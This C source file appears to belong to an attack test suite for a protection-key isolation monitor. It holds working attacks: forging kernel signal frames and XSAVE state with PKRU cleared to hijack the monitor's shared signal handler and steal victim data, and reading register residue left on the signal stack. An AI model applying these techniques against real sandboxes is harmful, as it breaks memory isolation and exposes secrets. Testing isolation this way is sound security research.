/* SPDX-License-Identifier: MIT */
/*
 * attack_signals.c: what can be done to, and with, the monitor's handler of
 * signals, whose stack everybody can write to.
 */
#include "attacks.h"
#include "rt/string.h"

#define STACK_START (CUBICLE_SPACE_BASE + CUBICLE_SIGNALS_OFFSET)
#define STACK_END   (STACK_START + CUBICLE_SIGNALS_BYTES)

/* By name from assembly. */
struct forged {
	uint64_t frame, context, info, at;
};
__attribute__((visibility("hidden"))) struct forged signals_forged;

static void cpuid(uint32_t leaf, uint32_t sub, uint32_t *ebx)
{
	uint32_t eax, ecx, edx;

	__asm__("cpuid"
		: "=a"(eax), "=b"(*ebx), "=c"(ecx), "=d"(edx)
		: "a"(leaf), "c"(sub));
}

/* The state of all registers as the kernel saves it, at (at), but PKRU is 0. */
static void forge_state(uint8_t *at)
{
	uint32_t bytes, keys, low, high, magic = 0x46505845;

	cpuid(13, 0, &bytes);
	cpuid(13, 9, &keys);
	__asm__ volatile("xgetbv" : "=a"(low), "=d"(high) : "c"(0));
	__asm__ volatile("xsave (%0)" ::"r"(at), "a"(low), "d"(high)
			 : "memory");
	memset(at + keys, 0, 4);
	const uint32_t software[5] = {0x46505853, bytes + 4, low, high, bytes};
	memcpy(at + 464, software, sizeof(software));
	memcpy(at + bytes, &magic, 4);
}

/*
 * Enter the handler at (at) as the kernel does: a signal that is to be ignored,
 * after which the monitor goes on as the frame says. That begins at (frame),
 * its registers are at (context), and all else from (rest) on. A gate that is
 * entered instead takes the number of the edge from r11.
 */
static int enter(uint64_t at, uint64_t *frame, uint64_t *context, uint8_t *rest)
{
	uint8_t *state = rest + 4096;
	uint32_t *info = (uint32_t *)(void *)rest;
	uint64_t selectors;

	__asm__("xor %0, %0\n mov %%ss, %w0\n shl $48, %0\n mov %%cs, %w0"
		: "=r"(selectors));
	memset(context, 0, 1024);
	memset(info, 0, 128);
	memset(state, 0, 8192);
	forge_state(state);
	info[2] = 128; /* si_code: the kernel's */
	context[23] = selectors;
	context[28] = (uintptr_t)state;
	signals_forged = (struct forged){
		(uintptr_t)frame, (uintptr_t)context, (uintptr_t)info, at};
	/* Words 15, 16, 20, 21 and 22 are rbp, rbx, rsp, rip and flags. */
	__asm__ volatile("mov signals_forged+8(%%rip), %%rdx\n"
			 "mov %%rbp, 120(%%rdx)\n mov %%rbx, 128(%%rdx)\n"
			 "mov %%rsp, 160(%%rdx)\n lea 1f(%%rip), %%rax\n"
			 "mov %%rax, 168(%%rdx)\n movq $0x202, 176(%%rdx)\n"
			 "mov signals_forged+16(%%rip), %%rsi\n"
			 "mov signals_forged(%%rip), %%rsp\n"
			 "mov $27, %%edi\n" /* SIGPROF */
			 "mov $1, %%r11d\n" /* the edge for signals */
			 "jmp *signals_forged+24(%%rip)\n"
			 "1:\n" ::
				 : "rax", "rcx", "rdx", "rsi", "rdi", "r8",
			 "r9", "r10", "r11", "r12", "r13", "r14", "r15",
			 "memory");
	return steal(victim.data);
}

/* All of it where the kernel would put it. */
static int forge_entry(uint64_t at)
{
	uint64_t *frame = (uint64_t *)(STACK_END - 16384);

	/* The registers are behind the return address. */
	return enter(at, frame, frame + 1, (uint8_t *)(STACK_END - 12288));
}

/* The registers in our own memory: nothing of the kernel's is in the way. */
static int forge_context(uint64_t at)
{
	static uint64_t own[2048] __attribute__((aligned(64)));

	return enter(
		at, (uint64_t *)(STACK_END - 16384), own, (uint8_t *)&own[256]);
}

/*
 * Have the victim fault while its registers hold the secret, and look for them
 * where the kernel put them.
 */
static int residue(uint64_t arg)
{
	static uint8_t page[8192] __attribute__((aligned(4096)));

	(void)arg;
	page[4096] = 1;
	victim_touch(page + 4096, 4096);
	memcpy(loot, (void *)(STACK_END - LOOT_BYTES), LOOT_BYTES);
	return ATTACK_FAILED; /* what is in the loot decides */
}

/* Fault with a stack pointer at the low end of the stack for signals. */
static int low(uint64_t arg)
{
	(void)arg;
	__asm__ volatile("mov %0, %%rsp\n ud2\n" ::"r"(STACK_START + 256));
	return ATTACK_SUCCEEDED;
}

const struct attack attacks_here[] = {
	{"low", low},
	{"forge-entry", forge_entry},
	{"forge-context", forge_context},
	{"residue", residue},
	{NULL, NULL},
};
